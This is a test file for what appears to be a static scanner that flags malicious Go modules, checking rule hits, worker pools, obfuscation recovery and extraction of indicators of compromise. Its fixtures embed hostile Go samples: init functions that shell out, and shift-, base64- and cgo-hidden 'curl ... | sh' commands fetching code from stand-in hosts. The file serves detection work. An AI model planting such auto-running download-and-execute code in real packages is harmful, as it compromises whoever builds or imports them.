import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadRules } from '../src/static/rules/load.js';
import { scanModule, fileRole, childExecArgv } from '../src/static/scan.js';
import { spawnSync } from 'node:child_process';
import { cgoPreambleLiterals } from '../src/static/scan-worker.js';
import { makeModule } from './helpers/modules.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const rules = loadRules([join(root, 'test', 'fixtures', 'rules', 'good')]);


const MODULE = {
  'go.mod': 'module example.test/m\n',
  'a.go': 'package m\nimport "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "id").Run() }\n',
  'b.go': 'package m\nvar Version = "1.0"\n',
  'sub/c.go': 'package sub\nimport x "os/exec"\nvar _ = x.Command("sh", "-c", "uname")\n',
  'sub/c_test.go': 'package sub\nimport "os/exec"\nfunc TestX() { exec.Command("id") }\n',
  'vendor/v/v.go': 'package v\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "id") }\n',
  'testdata/t.go': 'package t\nimport "os/exec"\nfunc F() { exec.Command("id") }\n',
  'broken.go': 'package m\nimport "os/exec"\nfunc broken( {\n\texec.Command("id")\n',
  'latin1.go': Buffer.concat([Buffer.from('package m\nvar s = "caf'), Buffer.from([0xe9]), Buffer.from('"\n')]),
};

test('scanModule finds rule hits everywhere, reports parse errors and counts all files', async () => {
  const dir = makeModule(MODULE);
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    assert.equal(result.filesScanned, 8);
    const where = result.findings.filter((f) => f.ruleId === 'fx-shell-dash-c').map((f) => `${f.file}:${f.line}:${f.context}`);
    assert.deepEqual(where, ['a.go:3:init', 'sub/c.go:3:package-var', 'vendor/v/v.go:3:init']);
    const execFiles = result.findings.filter((f) => f.ruleId === 'fx-exec-command').map((f) => f.file);
    assert.deepEqual(execFiles, ['a.go', 'broken.go', 'sub/c.go', 'sub/c_test.go', 'testdata/t.go', 'vendor/v/v.go']);
    assert.ok(result.parseErrors.some((e) => e.file === 'broken.go' && e.line === 3), JSON.stringify(result.parseErrors));
    assert.ok(result.parseErrors.some((e) => e.file === 'latin1.go' && /UTF-8/.test(e.message)));
    assert.deepEqual(result.imports, ['os/exec']);
    assert.ok(result.bytesScanned > 200);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('worker pool gives the same result as the inline scan', async () => {
  const files: Record<string, string | Buffer> = { ...MODULE };
  for (let i = 0; i < 50; i++) {
    files[`pkg${i % 7}/f${i}.go`] = `package pkg${i % 7}\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "echo ${i}") }\nfunc F${i}() {}\n`;
  }
  const dir = makeModule(files);
  try {
    const inline = await scanModule(dir, { rules, workers: 0 });
    let progressCalls = 0;
    const pooled = await scanModule(dir, { rules, workers: 2, onProgress: () => progressCalls++ });
    assert.equal(pooled.filesScanned, 58);
    assert.deepEqual(pooled.findings, inline.findings);
    assert.deepEqual(pooled.parseErrors, inline.parseErrors);
    assert.equal(pooled.findings.filter((f) => f.ruleId === 'fx-shell-dash-c').length, 53);
    assert.ok(progressCalls > 7);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('scan processes started from `node -e` run the worker, not the script again', async () => {
  assert.deepEqual(childExecArgv(['--import', 'tsx', '-e', 'code', '--max-old-space-size=900', '--run', 'x']), ['--import', 'tsx', '--max-old-space-size=900']);
  assert.deepEqual(childExecArgv(['-pe', '1', '--eval=x', '--print', 'y', '--input-type=module', '--test', '--test-reporter=tap', '--watch', '-i', '--stack-size=2000']), ['--stack-size=2000']);
  const files: Record<string, string> = { 'go.mod': 'module example.test/m\n' };
  for (let i = 0; i < 45; i++) files[`pkg${i % 3}/f${i}.go`] = `package pkg${i % 3}\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", "echo ${i}") }\n`;
  const dir = makeModule(files);
  try {
    // Were the script run again in a scan process, it stops there at once (no second generation).
    const script = `
      if (process.env.GOSNARE_SCAN_CHILD === '1') { console.error('SCRIPT RAN IN A SCAN PROCESS'); process.exit(9); }
      const { scanModule } = await import(${JSON.stringify(new URL('../src/static/scan.js', import.meta.url).href)});
      const { loadRules } = await import(${JSON.stringify(new URL('../src/static/rules/load.js', import.meta.url).href)});
      const r = await scanModule(${JSON.stringify(dir)}, { rules: loadRules([${JSON.stringify(join(root, 'test', 'fixtures', 'rules', 'good'))}]), workers: 2 });
      console.log(JSON.stringify({ shells: r.findings.filter((f) => f.ruleId === 'fx-shell-dash-c').length, errors: r.parseErrors.map((e) => e.message) }));`;
    const run = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 60_000 });
    assert.equal(run.status, 0, run.stderr);
    assert.doesNotMatch(run.stderr, /SCRIPT RAN IN A SCAN PROCESS/);
    const out = JSON.parse(run.stdout) as { shells: number; errors: string[] };
    assert.deepEqual(out.errors, []);
    assert.equal(out.shells, 45);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('what recovery undid for a rule is an indicator even when the IOC pass does not run the declaration', async () => {
  // A shift decoder: none of the shapes (XOR, tables, base64...) that make the IOC pass run a declaration.
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'x.go': `package m

import "os/exec"

func decode(s string) string {
	b := []byte(s)
	for i := range b {
		b[i] -= 3
	}
	return string(b)
}

func init() {
	exec.Command("/bin/sh", "-c", decode("fxuo#kwws=225361314461;2vwdjh5#\\x7f#vk")).Start()
}
`,
  });
  try {
    const r = await scanModule(dir, { rules: loadRules(), workers: 0 });
    assert.ok(r.findings.some((f) => f.recoveredStrings.some((v) => v.includes('curl http://203.0.113.8/stage2 | sh'))), JSON.stringify(r.findings));
    assert.deepEqual(r.iocs.urls, ['http://203.0.113.8/stage2']);
    assert.deepEqual(r.iocs.ips, ['203.0.113.8']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the C string literals of cgo preambles feed IOC extraction, other comments do not', () => {
  const block = 'package p\n\n// Doc says "http://203.0.113.1/doc".\n\n/*\n#include <stdlib.h>\n__attribute__((constructor)) static void b(void) { system("curl -s http://203.0.113.10/p | sh"); }\n*/\nimport "C"\n';
  assert.deepEqual(cgoPreambleLiterals(block), ['curl -s http://203.0.113.10/p | sh']);
  const lines = 'package p\n\n// #include <stdio.h>\n// static void f(void) { puts("a\\tb"); }\nimport "C"\n';
  assert.deepEqual(cgoPreambleLiterals(lines), ['a\tb']);
  assert.deepEqual(cgoPreambleLiterals('package p\n\n// "x"\nimport "fmt"\n'), []);
});

test('fileRole tells test, testdata, vendor and never-built files apart', () => {
  assert.equal(fileRole('a.go'), 'source');
  assert.equal(fileRole('x/a_test.go'), 'test');
  assert.equal(fileRole('x/testdata/a.go'), 'testdata');
  assert.equal(fileRole('vendor/github.com/x/a.go'), 'vendor');
  assert.equal(fileRole('_old/a.go'), 'not-built');
});

test('code that never builds into a dependent gets no recovery runs: not for rules, not for IOCs', async () => {
  // The same decoded curl|sh, run through a local, in a source file and in a test file.
  const body = (name: string, b64: string) =>
    `func ${name}() {\n\tb, _ := base64.StdEncoding.DecodeString("${b64}")\n\tc := string(b)\n\texec.Command("sh", "-c", c).Run()\n}\n`;
  const header = 'package m\n\nimport (\n\t"encoding/base64"\n\t"os/exec"\n)\n\n';
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'run.go': header + body('Run', 'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo'),
    'run_test.go': header + body('runInTest', 'Y3VybCBodHRwOi8vMjAzLjAuMTEzLjYveCB8IHNo'),
  });
  try {
    const result = await scanModule(dir, { rules: loadRules([join(root, 'rules')]), workers: 0 });
    const rulesIn = (file: string) => result.findings.filter((f) => f.file === file).map((f) => f.ruleId);
    // The command the exec runs is a local: known from a run of Run, unknown in the test file.
    assert.ok(rulesIn('run.go').includes('exec-download-ip-pipe-shell'), JSON.stringify(result.findings));
    assert.ok(!rulesIn('run_test.go').includes('exec-download-ip-pipe-shell'), JSON.stringify(result.findings));
    // A decode of a literal needs no run: still recovered there, and the test file still scanned.
    assert.ok(rulesIn('run_test.go').includes('obfuscation-decoded-command-or-url'), JSON.stringify(result.findings));
    assert.ok(rulesIn('run_test.go').includes('exec-shell-dash-c'));
    assert.ok(result.recoveredStrings.some((r) => r.file === 'run.go' && r.value.includes('203.0.113.5')));
    assert.ok(!result.recoveredStrings.some((r) => r.file === 'run_test.go'), JSON.stringify(result.recoveredStrings));
    // What a rule recovered is an indicator wherever it was found.
    assert.ok(result.iocs.ips.includes('203.0.113.5') && result.iocs.ips.includes('203.0.113.6'), JSON.stringify(result.iocs));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('findings in files that build only for other platforms carry the constraint', async () => {
  const src = 'package m\nimport "os/exec"\nfunc init() { exec.Command("id").Run() }\n';
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'a_android.go': src, 'a_linux.go': src, 'b.go': `//go:build plan9\n\n${src}`, 'gen.go': `//go:build ignore\n\n${src}` });
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    const byFile = Object.fromEntries(result.findings.filter((f) => f.ruleId === 'fx-exec-command').map((f) => [f.file, f.platformConstraint ?? null]));
    assert.deepEqual(byFile, { 'a_android.go': 'file name _android.go', 'a_linux.go': null, 'b.go': '//go:build plan9', 'gen.go': null });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
